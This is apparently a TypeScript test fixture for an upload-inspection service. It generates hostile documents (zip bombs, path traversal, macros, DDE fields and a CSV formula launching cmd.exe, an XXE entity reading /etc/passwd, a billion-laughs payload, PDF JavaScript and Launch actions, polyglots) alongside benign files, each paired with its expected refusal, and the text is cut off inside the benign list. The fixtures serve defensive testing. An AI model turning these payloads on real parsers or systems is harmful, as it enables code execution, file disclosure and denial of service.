import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { deflateSync, gzipSync } from 'node:zlib';
import { strToU8, type Zippable, zipSync } from 'fflate';
import * as refusals from '#core/inspection/refusals.ts';
import { message, tellInEnglish } from '#core/language/message.ts';
import { sourceOf } from '#outside/inspection/file-source.ts';
import { inspectFile } from '#outside/inspection/inspect-file.ts';
import { leastCpu } from '#tests/least-cpu.ts';
import { para, wordFile, wordParts } from '#tests/oracle/word.ts';

/** What a hostile file may take of the processor, in milliseconds, and by how much it may let the process grow, in bytes. */
export const ENOUGH_MS = 50;
export const ENOUGH_BYTES = 64 * 1024 * 1024;

const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const MICROSOFT = 'http://schemas.microsoft.com/office/2006/relationships';

export const latin = (text: string): Uint8Array => new Uint8Array(Buffer.from(text, 'latin1'));
const joined = (...pieces: (string | Uint8Array)[]): Uint8Array =>
  Buffer.concat(pieces.map((piece) => (typeof piece === 'string' ? latin(piece) : piece)));

/** A Word file with further parts, or others in the place of its own. */
export const docxWith = (extra: Zippable = {}, body = para('A lease')): Uint8Array =>
  zipSync({
    ...Object.fromEntries(Object.entries(wordParts(body)).map(([name, xml]) => [name, strToU8(xml)])),
    ...extra,
  });

const relation = (type: string, target: string, base = OFFICE): Uint8Array =>
  strToU8(
    `<Relationships><Relationship Id="rId9" Type="${base}/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
  );
const related = (type: string, target: string, base = OFFICE): Uint8Array =>
  docxWith({ 'word/_rels/settings.xml.rels': relation(type, target, base) });

const bookWith = (extra: Zippable): Uint8Array =>
  zipSync({
    '[Content_Types].xml': strToU8('<Types/>'),
    '_rels/.rels': strToU8('<Relationships/>'),
    'xl/workbook.xml': strToU8('<workbook/>'),
    ...extra,
  });

/** Overwrites a field of a part's line in the directory, or of all lines. */
const forged = (bytes: Uint8Array, name: string, at: number, size: 1 | 2 | 4, value: number): Uint8Array => {
  const copy = Buffer.from(bytes);
  for (
    let line = copy.indexOf('PK\x01\x02', 0, 'latin1');
    line >= 0;
    line = copy.indexOf('PK\x01\x02', line + 4, 'latin1')
  )
    if (copy.toString('latin1', line + 46, line + 46 + copy.readUInt16LE(line + 28)) === name)
      copy.writeUIntLE(value, line + at, size);
  return copy;
};

/** Another name in the directory than before the part itself. */
const renamed = (bytes: Uint8Array, from: string, to: string): Uint8Array => {
  const copy = Buffer.from(bytes);
  copy.write(to, copy.lastIndexOf(from, undefined, 'latin1'), 'latin1');
  return copy;
};

/** One stream of nothing that many parts share, as only a directory can say. */
const overlapping = (): Uint8Array => {
  const packed = Buffer.from(zipSync({ a: new Uint8Array(100_000) }));
  const directory = packed.indexOf('PK\x01\x02', 0, 'latin1');
  const end = packed.indexOf('PK\x05\x06', 0, 'latin1');
  const line = packed.subarray(directory, end);
  const lines = Array.from({ length: 400 }, (_, at) => {
    const copy = Buffer.concat([line.subarray(0, 46), Buffer.from(`word/${at}.xml`)]);
    copy.writeUInt16LE(copy.byteLength - 46, 28);
    return copy;
  });
  const tail = Buffer.from(packed.subarray(end));
  tail.writeUInt16LE(400, 10);
  tail.writeUInt32LE(
    lines.reduce((sum, each) => sum + each.byteLength, 0),
    12,
  );
  return Buffer.concat([packed.subarray(0, directory), ...lines, tail]);
};

/** An old Office file whose directory has these names; each line of it takes 128 bytes. */
export const compound = (names: readonly string[], text = ''): Uint8Array => {
  const file = Buffer.alloc(512 + 128 * (names.length + 1) + 4096);
  file.write('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', 'latin1');
  for (const [at, name] of ['WordDocument', ...names].entries()) file.write(name, 512 + 128 * at, 'utf16le');
  file.write(text, 512 + 128 * (names.length + 1), 'latin1');
  return file;
};

export const pdf = (...objects: string[]): Uint8Array =>
  latin(
    `%PDF-1.7\n${objects.map((object, at) => `${at + 1} 0 obj\n${object}\nendobj\n`).join('')}trailer << /Root 1 0 R >>\n%%EOF\n`,
  );
const CATALOG = '<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>';
const PAGES = '<< /Type /Pages /Kids [] /Count 0 >>';

/** Objects in a packed stream, where no search of the bytes finds them. */
export const packedObjects = (text: string, dictionary = '', number = 1): string => {
  const packed = deflateSync(latin(`${number} 0 ${text}`));
  return `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode ${dictionary}/Length ${packed.byteLength} >>\nstream\n${packed.toString('latin1')}\nendstream`;
};

const OPENS_ADDRESS = '<< /S /URI /URI (https://example.com) >>';
const SENDS = '<< /S /SubmitForm /F << /FS /URL /F (https://example.com) >> >>';
const FORM = '<< /AcroForm << /Fields [] /XFA [(template) 3 0 R] >> >>';

/** A form in XML whose template says so, packed; by rows, as most writers pack tables. */
const xfa = (template: string, byRows = false): Uint8Array => {
  const text = Buffer.from(`<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">${template}</template>`);
  const width = 8;
  const rows = Array.from({ length: Math.ceil(text.byteLength / width) }, (_, row) => {
    const of = (at: number) => Buffer.concat([text.subarray(at * width, (at + 1) * width), Buffer.alloc(width, 0x20)]);
    const above = row === 0 ? Buffer.alloc(width) : of(row - 1);
    return Buffer.from([
      2,
      ...of(row)
        .subarray(0, width)
        .map((byte, at) => (byte - (above[at] ?? 0)) & 0xff),
    ]);
  });
  const packed = deflateSync(byRows ? Buffer.concat(rows) : text);
  const how = byRows ? `/DecodeParms << /Predictor 12 /Columns ${width} >> ` : '';
  return pdf(
    CATALOG,
    FORM,
    `<< /Filter /FlateDecode ${how}/Length ${packed.byteLength} >>\nstream\n${packed.toString('latin1')}\nendstream`,
  );
};

export const png = (width = 1, height = 1): Buffer => {
  const bytes = Buffer.alloc(64);
  bytes.write('\x89PNG\r\n\x1a\n\0\0\0\rIHDR', 'latin1');
  bytes.writeUInt32BE(width, 16);
  bytes.writeUInt32BE(height, 20);
  return bytes;
};
const jpeg = (width: number, height: number): Buffer => {
  const bytes = Buffer.from('ffd8ffe000104a46494600010100000100010000ffc00011080000000003012200021101031101', 'hex');
  bytes.writeUInt16BE(height, 25);
  bytes.writeUInt16BE(width, 27);
  return bytes;
};

const attached = (name: string, bytes: Uint8Array): Uint8Array =>
  latin(
    `From: a@example.com\r\nTo: b@example.com\r\nSubject: Files\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="x1"\r\n\r\n--x1\r\nContent-Type: text/plain\r\n\r\nHere\r\n--x1\r\nContent-Type: application/octet-stream; name="${name}"\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename="${name}"\r\n\r\n${Buffer.from(bytes).toString('base64')}\r\n--x1--\r\n`,
  );

const DDE_FIELD =
  '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\windows\\\\cmd.exe "/k calc" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>';
const complexField = (instruction: string): string =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${instruction}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`;
const LAUGHS = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "lol">${Array.from({ length: 9 }, (_, at) => `<!ENTITY a${at} "${'&a;'.repeat(10)}">`).join('')}]><w:styles>&a8;</w:styles>`;
const EXTERNAL = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:styles>&e;</w:styles>';
const utf16 = (text: string): Uint8Array => Buffer.from(`\ufeff${text}`, 'utf16le');
const symlink = (): Uint8Array =>
  forged(
    forged(docxWith({ 'word/media/a.png': strToU8('/etc/passwd') }), 'word/media/a.png', 40, 2, 0o120777),
    'word/media/a.png',
    5,
    1,
    3,
  );
const bomb = (megabytes: number): Uint8Array => new Uint8Array(megabytes * 1024 * 1024);

type Hostile = [name: string, make: () => Uint8Array, reason: string];
const tooMany = tellInEnglish(message('This file has more than {most} parts, so it was not opened.', { most: 500 }));
const inMail = (name: string, reason: string) =>
  tellInEnglish(message('{name} in this mail was refused: {reason}', { name, reason }));

/** Files that would do harm: what each is called, how it is made, and what whoever uploads it reads. */
/** Forms that readers run, and that tell a hasty search that they are something else. */
const misread: Record<string, () => Uint8Array> = (() => {
  const template = (event: string) =>
    `<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">${event}</template>`;
  const harmless = `<< >>\nstream\n${template('')}\nendstream`;
  const script = template('<event><script>1</script></event>');
  const form = (begins: string, bytes: Uint8Array = deflateSync(script)) =>
    pdf(CATALOG, FORM, `${begins}${latin1Of(bytes)}\nendstream`, harmless, '<< /Predictor 12 /Columns 8 >>');
  const latin1Of = (bytes: Uint8Array) => Buffer.from(bytes).toString('latin1');
  return {
    'a name': () => form('<< /Filter /FlateDecode /obj 1 >>\nstream\n'),
    'a string': () => form('<< /Filter /FlateDecode /K (1 0 obj <<) >>\nstream\n'),
    'a comment': () => form('<< /Filter /FlateDecode % 1 0 obj <<\n >>\nstream\n'),
    'rows that are told elsewhere': () => form('<< /Filter /FlateDecode /DecodeParms 5 0 R >>\nstream\n'),
    'rows that are told twice': () =>
      form('<< /Filter /FlateDecode /DecodeParms << /Predictor 1 /Predictor 12 /Columns 8 >> >>\nstream\n'),
    'a name in numbers': () =>
      form('<< /Filter /FlateDecode /DecodeParms << /Predicto#72 12 /Columns 8 >> >>\nstream\n'),
    'the end of its line': () => form('<< /Filter /FlateDecode >>\nstream \n'),
    'letters of two bytes': () =>
      form('<< /Filter /FlateDecode >>\nstream\n', deflateSync(Buffer.from(template('<submit/>'), 'utf16le'))),
  };
})();

export const hostileFiles: Record<string, Hostile> = {
  // Archives.
  'a bomb of 300 MB': ['a.docx', () => docxWith({ 'word/media/a.png': bomb(300) }), refusals.TOO_MUCH_INSIDE],
  'a bomb of forty parts': [
    'a.docx',
    () => docxWith(Object.fromEntries(Array.from({ length: 40 }, (_, at) => [`word/media/${at}.png`, bomb(1)]))),
    refusals.TOO_MUCH_INSIDE,
  ],
  'a bomb that says it is small': [
    'a.docx',
    () => forged(docxWith({ 'word/big.xml': bomb(20) }), 'word/big.xml', 24, 4, 1000),
    refusals.DAMAGED,
  ],
  'a part that says it is huge': [
    'a.docx',
    () => forged(docxWith(), 'word/document.xml', 24, 4, 0x7fffffff),
    refusals.TOO_MUCH_INSIDE,
  ],
  'parts that share their bytes': ['a.docx', overlapping, refusals.DAMAGED],
  'six hundred parts': [
    'a.docx',
    () => docxWith(Object.fromEntries(Array.from({ length: 600 }, (_, at) => [`word/${at}.xml`, strToU8('<x/>')]))),
    tooMany,
  ],
  'a path upwards': ['a.docx', () => docxWith({ '../../evil.xml': strToU8('<x/>') }), refusals.UNSAFE_NAMES],
  'a folder upwards': ['a.docx', () => docxWith({ 'word/../../etc/': new Uint8Array() }), refusals.UNSAFE_NAMES],
  'an absolute path': ['a.docx', () => docxWith({ '/etc/passwd': strToU8('x') }), refusals.UNSAFE_NAMES],
  'a path of Windows': ['a.docx', () => docxWith({ 'C:\\evil.dll': strToU8('x') }), refusals.UNSAFE_NAMES],
  'a name with a sign that ends it': [
    'a.docx',
    () => docxWith({ 'word/a.exe\0.xml': strToU8('x') }),
    refusals.UNSAFE_NAMES,
  ],
  'a link to a file of the computer': ['a.docx', symlink, refusals.LINKED_PARTS],
  'a part twice': ['a.docx', () => docxWith({ 'WORD/document.xml': strToU8('<x/>') }), refusals.SAME_PART_TWICE],
  'other names in the directory': [
    'a.docx',
    () => renamed(docxWith({ 'word/vbaProject.bin': strToU8('x') }), 'word/vbaProject.bin', 'word/harmless12.xml'),
    refusals.DAMAGED,
  ],
  'a password': ['a.docx', () => forged(docxWith(), 'word/document.xml', 8, 2, 1), refusals.PASSWORD],
  'half an archive': ['a.docx', () => docxWith().slice(0, 900), refusals.DAMAGED],
  'an archive of something else': ['a.docx', () => zipSync({ 'a.txt': strToU8('a') }), refusals.NOT_ITS_NAME],
  'a program behind a Word file': ['a.docx', () => joined(docxWith(), 'MZ\x90\0 program'), refusals.TWO_FILES],
  // Macros, controls, embedded programs.
  macros: ['a.docx', () => docxWith({ 'word/vbaProject.bin': latin('\xd0\xcf') }), refusals.MACROS],
  'macros under another name': [
    'a.docx',
    () => docxWith({ 'word/_rels/document.xml.rels': relation('vbaProject', 'other.bin', MICROSOFT) }),
    refusals.MACROS,
  ],
  'the kind of a file with macros': [
    'a.docx',
    () =>
      docxWith({
        '[Content_Types].xml': strToU8(
          '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
        ),
      }),
    refusals.MACROS,
  ],
  'macros of a workbook': ['a.xlsx', () => bookWith({ 'xl/vbaProject.bin': latin('x') }), refusals.MACROS_OFFICE],
  'old macros of a workbook': [
    'a.xlsx',
    () => bookWith({ 'xl/macrosheets/sheet1.xml': strToU8('<x/>') }),
    refusals.MACROS_OFFICE,
  ],
  'an ActiveX control': ['a.docx', () => docxWith({ 'word/activeX/activeX1.xml': strToU8('<x/>') }), refusals.CONTROLS],
  'an OLE object': [
    'a.docx',
    () => docxWith({ 'word/embeddings/oleObject1.bin': latin('\xd0\xcf') }),
    refusals.CONTROLS,
  ],
  'an embedded program': ['a.docx', () => docxWith({ 'word/embeddings/setup.exe': latin('MZ') }), refusals.CONTROLS],
  'an embedded workbook with macros': [
    'a.docx',
    () => docxWith({ 'word/embeddings/sheet1.xlsx': bookWith({ 'xl/vbaProject.bin': latin('x') }) }),
    refusals.MACROS,
  ],
  'a relation to an OLE object': ['a.docx', () => related('oleObject', 'https://example.com/a'), refusals.CONTROLS],
  // What is fetched from elsewhere.
  'a template from the web': [
    'a.docx',
    () => related('attachedTemplate', 'https://example.com/a.dotm'),
    refusals.OUTSIDE_CONTENT,
  ],
  'a template from the web in disguise': [
    'a.docx',
    () => related('attached&#84;emplate', '&#104;ttps://example.com/a.dotm'),
    refusals.OUTSIDE_CONTENT,
  ],
  'a picture from the web': ['a.docx', () => related('image', 'https://example.com/a.png'), refusals.OUTSIDE_PICTURES],
  'a picture of another computer': ['a.docx', () => related('image', 'file://host/a.png'), refusals.OUTSIDE_PICTURES],
  'a frame from the web': ['a.docx', () => related('frame', 'https://example.com/a.html'), refusals.OUTSIDE_CONTENT],
  'a document within from the web': [
    'a.docx',
    () => related('subDocument', 'https://example.com/a.docx'),
    refusals.OUTSIDE_CONTENT,
  ],
  'another file as a chunk': [
    'a.docx',
    () =>
      docxWith({
        'word/chunk.html': strToU8('<script>alert(1)</script>'),
        'word/_rels/footer.xml.rels': strToU8(
          `<Relationships><Relationship Id="r1" Type="${OFFICE}/aFChunk" Target="chunk.html"/></Relationships>`,
        ),
      }),
    refusals.OTHER_FILE_INSIDE,
  ],
  'a chunk in the body': ['a.docx', () => docxWith({}, '<w:altChunk r:id="r1"/>'), refusals.OTHER_FILE_INSIDE],
  'a field that starts a program': ['a.docx', () => docxWith({}, DDE_FIELD), refusals.DDE],
  'such a field in a header': ['a.docx', () => wordFile(wordParts(para('x'), { header: DDE_FIELD })), refusals.DDE],
  ...Object.fromEntries(
    Object.entries({
      'a field that fetches a picture':
        '<w:fldSimple w:instr=" INCLUDEPICTURE &quot;https://example.com/a.png&quot; \\d "/>',
      'a field that fetches a picture of another computer':
        '<w:fldSimple w:instr=" IMPORT &quot;\\\\\\\\host\\\\a.png&quot; "/>',
      'a field that fetches a picture from what another field spells': complexField(
        ` INCLUDEPICTURE </w:instrText></w:r>${complexField(' QUOTE 104 116 116 112 ')}<w:r><w:instrText>`,
      ),
    }).map(([name, field]) => [
      name,
      ['a.docx', () => docxWith({}, `<w:p>${field}</w:p>`), refusals.OUTSIDE_PICTURES] as const,
    ]),
  ),
  'a field that fetches a text': [
    'a.docx',
    () => docxWith({}, `<w:p>${complexField(' INCLUDETEXT "https://example.com/a.docx" ')}</w:p>`),
    refusals.OUTSIDE_CONTENT,
  ],
  'a field that asks a database': [
    'a.docx',
    () => docxWith({}, `<w:p>${complexField(' DATABASE \\c "DSN=a" \\s "SELECT 1" ')}</w:p>`),
    refusals.OUTSIDE_CONTENT,
  ],
  ...Object.fromEntries(
    Object.entries({
      'a workbook that is filled from a page': [
        'xl/connections.xml',
        '<connections><connection id="1" type="4"><webPr url="https://example.com/"/></connection></connections>',
      ],
      'a workbook that is filled from a database': [
        'xl/links.xml',
        '<x:connections xmlns:x="a"><x:connection><x:dbPr connection="Provider=MSOLEDBSQL;Data Source=host"/></x:connection></x:connections>',
      ],
      'a workbook whose cell asks an address': [
        'xl/worksheets/sheet1.xml',
        '<worksheet><c r="A1"><f>_xlfn.WEBSERVICE("https://example.com/?"&amp;B1)</f></c></worksheet>',
      ],
      'a workbook whose cell asks an address in disguise': [
        'xl/worksheets/sheet1.xml',
        '<worksheet><c r="A1"><f ca="1">_xlfn.&#87;EBSERVICE("https://example.com/")</f></c></worksheet>',
      ],
    } as Record<string, [string, string]>).map(([name, [part, xml]]) => [
      name,
      ['a.xlsx', () => bookWith({ [part]: strToU8(xml) }), refusals.OUTSIDE_DATA] as const,
    ]),
  ),
  'a link of a workbook to a program': [
    'a.xlsx',
    () =>
      bookWith({
        'xl/externalLinks/externalLink1.xml': strToU8('<externalLink><ddeLink ddeService="cmd"/></externalLink>'),
      }),
    refusals.DDE,
  ],
  // XML.
  'a billion laughs': ['a.docx', () => docxWith({ 'word/styles.xml': strToU8(LAUGHS) }), refusals.OWN_ENTITIES],
  'an entity of a file': ['a.docx', () => docxWith({ 'word/styles.xml': strToU8(EXTERNAL) }), refusals.OWN_ENTITIES],
  'an entity behind a comment': [
    'a.docx',
    () => docxWith({ 'docProps/core.xml': strToU8(`<?xml version="1.0"?><!-- <x> -->${EXTERNAL}`) }),
    refusals.OWN_ENTITIES,
  ],
  'an entity in letters of two bytes': [
    'a.docx',
    () => docxWith({ 'word/styles.xml': utf16(EXTERNAL) }),
    refusals.OWN_ENTITIES,
  ],
  'an encoding that hides it': [
    'a.docx',
    () => docxWith({ 'word/styles.xml': strToU8('<?xml version="1.0" encoding="utf-7"?>+ADwAIQ-DOCTYPE x') }),
    refusals.DAMAGED_FILE,
  ],
  // Old Office files.
  'an old file with macros': ['a.doc', () => compound(['Macros', 'VBA']), refusals.MACROS],
  'an old file with an embedded program': ['a.doc', () => compound(['\x01Ole10Native']), refusals.CONTROLS],
  'an old file with a field that starts a program': [
    'a.doc',
    () => compound([], '\x13 DDEAUTO c:\\x.exe \x15'),
    refusals.DDE,
  ],
  'a locked Word file': ['a.docx', () => compound(['EncryptedPackage']), refusals.PASSWORD],
  // PDF.
  'a PDF that runs a script': [
    'a.pdf',
    () => pdf(CATALOG, PAGES, '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'),
    refusals.PDF_SCRIPTS,
  ],
  'a script in packed objects': [
    'a.pdf',
    () => pdf(CATALOG, PAGES, packedObjects('<< /S /JavaScript /JS 9 0 R >>')),
    refusals.PDF_SCRIPTS,
  ],
  'a script by a name in numbers': [
    'a.pdf',
    () => pdf(CATALOG, PAGES, '<< /S /J#61vaScript /JS (x) >>'),
    refusals.PDF_HIDDEN,
  ],
  'packed objects in an odd way': [
    'a.pdf',
    () => pdf(CATALOG, PAGES, '<< /Type /ObjStm /Filter /LZWDecode /Length 3 >>\nstream\nabc\nendstream'),
    refusals.PDF_HIDDEN,
  ],
  'a PDF that starts a program': [
    'a.pdf',
    () => pdf(CATALOG, PAGES, '<< /S /Launch /F (cmd.exe) >>'),
    refusals.PDF_LAUNCHES,
  ],
  'a PDF with a program attached': [
    'a.pdf',
    () => pdf(CATALOG, PAGES, '<< /Type /Filespec /F (invoice.pdf.exe) /EF << /F 4 0 R >> >>'),
    refusals.PDF_PROGRAMS,
  ],
  'a form with programs of its own': [
    'a.pdf',
    () => pdf(CATALOG, '<< /AcroForm << /XFA [(a) 4 0 R] >> >>'),
    refusals.PDF_XFA,
  ],
  'a form that runs a script, packed': [
    'a.pdf',
    () => xfa('<field><calculate><script>1</script></calculate></field>'),
    refusals.PDF_XFA,
  ],
  'a form that runs a script, by rows': [
    'a.pdf',
    () => xfa('<event><x:script xmlns:x="a">1</x:script></event>', true),
    refusals.PDF_XFA,
  ],
  ...Object.fromEntries(
    Object.entries(misread).map(([name, form]) => [
      `a form with a script whose stream is misread by ${name}`,
      ['a.pdf', form, refusals.PDF_XFA] as const,
    ]),
  ),
  'a form that sends itself': [
    'a.pdf',
    () => xfa('<event><submit target="https://example.com"/></event>'),
    refusals.PDF_XFA,
  ],
  'a form that fetches a picture': [
    'a.pdf',
    () => xfa('<draw><image href="https://example.com/a.png"/></draw>'),
    refusals.PDF_OUTWARD,
  ],
  'a form that cannot be read': [
    'a.pdf',
    () => pdf(CATALOG, FORM, '<< /Filter [/ASCIIHexDecode /FlateDecode] /Length 3 >>\nstream\nabc\nendstream'),
    refusals.PDF_XFA,
  ],
  ...Object.fromEntries(
    ['/Subtype /Image /Filter /CCITTFaxDecode', '/Subtype /Image /Filter /JPXDecode', '/Filter /DCTDecode'].map(
      (how) => [
        `a form in what ${how} would be made of`,
        [
          'a.pdf',
          () => pdf(CATALOG, FORM, `<< ${how} /Length 3 >>\nstream\nabc\nendstream`),
          refusals.PDF_XFA,
        ] as const,
      ],
    ),
  ),
  'a form behind a lock': ['a.pdf', () => joined(xfa('<field/>'), 'trailer << /Encrypt 5 0 R >>'), refusals.PDF_LOCKED],
  'a PDF that opens an address': [
    'a.pdf',
    () => pdf(CATALOG, PAGES, '<< /S /URI /URI (https://example.com) >>'),
    refusals.PDF_OUTWARD,
  ],
  ...Object.fromEntries(
    Object.entries({
      'a PDF that opens an address from packed objects': () =>
        pdf('<< /OpenAction 9 0 R >>', PAGES, packedObjects(OPENS_ADDRESS, '', 9)),
      'a PDF that opens an address at the second step': () =>
        pdf(CATALOG, PAGES, '<< /S /GoTo /D [4 0 R /Fit] /Next [5 0 R] >>', '<< >>', OPENS_ADDRESS),
      'a PDF that sends itself when a page is shown': () =>
        pdf('<< /Type /Catalog >>', `<< /Type /Page /AA << /C << /S /GoTo /D [1 0 R] >> /O ${SENDS} >> >>`),
      'a PDF that sends itself when it is closed': () =>
        pdf('<< /Type /Catalog /AA 2 0 R >>', '<< /WS << /S /Named /N /NextPage /X << >> >> /WC 3 0 R >>', SENDS),
      'a form that sends itself when a field changes': () => pdf('<< /FT /Tx /AA << /V 2 0 R >> >>', SENDS),
    }).map(([name, make]) => [name, ['a.pdf', make, refusals.PDF_OUTWARD] as const]),
  ),
  'a PDF that asks another computer': [
    'a.pdf',
    () => pdf(CATALOG, PAGES, '<< /S /GoToR /F (\\\\\\\\host\\\\share) /D [0 /Fit] >>'),
    refusals.PDF_OUTWARD,
  ],
  'a PDF with film': ['a.pdf', () => pdf(CATALOG, PAGES, '<< /Subtype /RichMedia >>'), refusals.PDF_MEDIA],
  'packed objects behind a lock': [
    'a.pdf',
    () => joined(pdf(CATALOG, PAGES, packedObjects('<< /A 1 >>')), 'trailer << /Encrypt 5 0 R >>'),
    refusals.PDF_LOCKED,
  ],
  'a bomb of packed objects': [
    'a.pdf',
    () => pdf(CATALOG, PAGES, packedObjects(' '.repeat(64 * 1024 * 1024))),
    refusals.TOO_MUCH_INSIDE,
  ],
  // Two files in one, and other contents.
  'a PDF that is an archive too': ['a.pdf', () => joined(pdf(PAGES), docxWith()), refusals.TWO_FILES],
  'a program that is a PDF too': ['a.pdf', () => joined('MZ\x90\0', pdf(PAGES)), refusals.TWO_FILES],
  'a page that is a PDF too': [
    'a.pdf',
    () => joined('%PDF-1.4\n<html><script>alert(1)</script>', pdf(PAGES)),
    refusals.TWO_FILES,
  ],
  'a picture that is an archive too': ['a.jpg', () => joined(jpeg(10, 10), docxWith()), refusals.TWO_FILES],
  'a picture with a script': [
    'a.gif',
    () => latin('GIF89a/*\x01\0\x01\0*/=1;<script>alert(1)</script>'),
    refusals.PICTURE_PROGRAM,
  ],
  'a picture of a thousand million pixels': ['a.png', () => png(40_000, 40_000), refusals.PICTURE_TOO_LARGE],
  'a photo of a thousand million pixels': ['a.jpg', () => jpeg(65_000, 65_000), refusals.PICTURE_TOO_LARGE],
  'a drawing called a picture': ['a.png', () => latin('<svg xmlns="x" onload="alert(1)"/>'), refusals.SVG],
  'a drawing': ['a.svg', () => latin('<svg/>'), refusals.SVG],
  'a program called a PDF': ['a.pdf', () => latin('MZ\x90\0 program'), refusals.NOT_ITS_NAME],
  'a PDF called a Word file': ['a.docx', () => pdf(PAGES), refusals.NOT_ITS_NAME],
  'a rich text called a Word file': ['a.doc', () => latin('{\\rtf1 \\object\\objdata 0105}'), refusals.NOT_ITS_NAME],
  'a page called a text': ['a.txt', () => latin('<!DOCTYPE html><script>alert(1)</script>'), refusals.OTHER_CONTENTS],
  'packed bytes called a table': ['a.csv', () => gzipSync('a,b'), refusals.OTHER_CONTENTS],
  'a table that starts a program': ['a.csv', () => latin('Name,Sum\nAnn,"=cmd|\'/c calc\'!A0"\n'), refusals.DDE_CELLS],
  'a program': ['a.exe', () => latin('MZ'), refusals.UNKNOWN_KIND],
  'a name that reads backwards': ['contract\u202efdp.docx', () => docxWith(), refusals.ODD_NAME],
  'a name that leads elsewhere': ['../a.pdf', () => pdf(PAGES), refusals.ODD_NAME],
  'nothing at all': ['a.pdf', () => new Uint8Array(), refusals.EMPTY],
  // Mail.
  'a mail with a program': ['a.eml', () => attached('invoice.pdf.exe', latin('MZ')), refusals.MAIL_PROGRAM],
  'a mail with macros': [
    'a.eml',
    () => attached('lease.docx', docxWith({ 'word/vbaProject.bin': latin('x') })),
    inMail('lease.docx', refusals.MACROS),
  ],
  'a page called a mail': ['a.eml', () => latin('<html><script>alert(1)</script>'), refusals.OTHER_CONTENTS],
};

/** Files as people have them. */
export const plainFiles: Record<string, [name: string, make: () => Uint8Array]> = {
  'a Word file': ['lease.docx', () => docxWith()],
  'a Word file with header, footer and notes': [
    'lease.docx',
    () => wordFile(wordParts(para('x'), { header: para('Top'), footer: para('Page'), footnotes: '' })),
  ],
  'links to web pages, and a template of the firm': [
    'lease.docx',
    () =>
      docxWith({
        'word/_rels/footnotes.xml.rels': relation('hyperlink', 'https://example.com'),
        'word/_rels/settings.xml.rels': relation('attachedTemplate', 'file:///\\\\server\\templates\\firm.dotm'),
        'word/media/image1.png': png(),
        'word/embeddings/sheet1.xlsx': bookWith({}),
        'word/fonts/font1.odttf': latin('x'),
      }),
  ],
  'a picture of a folder of the writer, and a mail merge': [
    'lease.docx',
    () =>
      docxWith(
        {},
        `<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;C:\\\\logos\\\\firm.png&quot; \\* MERGEFORMAT "/>${complexField(' IF 1 = 1 "https://example.com" ')}<w:fldSimple w:instr=" MERGEFIELD Name "/></w:p>`,
      ),
  ],
  'page numbers and a table of contents': [
    'lease.docx',
    () =>
      docxWith(
        {},
        '<w:p><w:fldSimple w:instr=" PAGE "/><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> TOC \\o </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
      ),
  ],
  'parts in letters of two bytes': [
    'lease.docx',
    () => docxWith({ 'docProps/app.xml': utf16('<Properties>é</Properties>') }),
  ],
  'an old Word file': ['lease.doc', () => compound(['1Table', 'ObjectPool', 'Data'], 'The DDE clause')],
  'a Word file under its old name': ['lease.doc', () => docxWith()],
  'a workbook': ['sums.xlsx', () => bookWith({ 'xl/worksheets/sheet1.xml': strToU8('<worksheet/>') })],
  'a workbook with functions of today and a model of its own': [
    'sums.xlsx',
    () =>
      bookWith({
        'xl/worksheets/sheet1.xml': strToU8(
          '<worksheet><c><f>_xlfn.XLOOKUP(A1,B:B,C:C)</f></c><c t="inlineStr"><is><t>WEBSERVICE( fetches&#10;a page</t></is></c></worksheet>',
        ),
        'xl/connections.xml': strToU8(
          '<connections><connection id="1"><dbPr connection="Data Model Connection" command="Model"/></connection></connections>',
        ),
      }),
  ],
  slides: [
    'pitch.pptx',
    () => zipSync({ '[Content_Types].xml': strToU8('<Types/>'), 'ppt/presentation.xml': strToU8('<p/>') }),
  ],
  'a PDF': ['deed.PDF', () => pdf('<< /Type /Catalog /Pages 2 0 R >>', PAGES)],
  'a PDF with packed objects and a link': [
    'deed.pdf',
    () =>
      pdf(CATALOG, PAGES, '<< /S /GoTo /D [1 0 R /Fit] >>', packedObjects('<< /S /URI /URI (https://example.com) >>')),
  ],
  'a form whose fields write dates and sums': [
    'form.pdf',
    () =>
      pdf(
        '<< /Type /Catalog /AcroForm << /Fields [3 0 R] >> >>',
        PAGES,
        '<< /FT /Tx /AA << /K << /S /JavaScript /JS (AFNumber_Keystroke\\(2, 0, 0, 0, "$", true\\);) >> /F << /JS (AFNumber_Format\\(2, 0, 0, 0, "$", true\\)) /S /JavaScript >> /C << /S /JavaScript /JS (AFSimple_Calculate("SUM", new Array ("a", "b"));) >> >> >>',
      ),
  ],
  'a form with a button that sends it': [
    'form.pdf',
    () =>
      pdf(
        '<< /Type /Catalog /OpenAction << /S /GoTo /D [2 0 R /Fit] >> >>',
        `<< /Type /Page /Annots [<< /Subtype /Widget /A ${SENDS} >>] /AA << /O << /S /GoTo /D [2 0 R /Fit] >> >> >>`,
      ),
  ],
  'a form of a court, in XML without a script': ['form.pdf', () => xfa('<subform><field name="court"/></subform>')],
  'the same with its parts written by rows': ['form.pdf', () => xfa('<subform><field name="court"/></subform>', true)],
  'a PDF with a table attached': [
    'bill.pdf',
    () => pdf(CATALOG, PAGES, '<< /Type /Filespec /F (figures.xlsx) /EF << /F 4 0 R >> >>'),
  ],
  'a locked PDF whose objects can be read': ['deed.pdf', () => joined(pdf(PAGES), 'trailer << /Encrypt 5 0 R >>')],
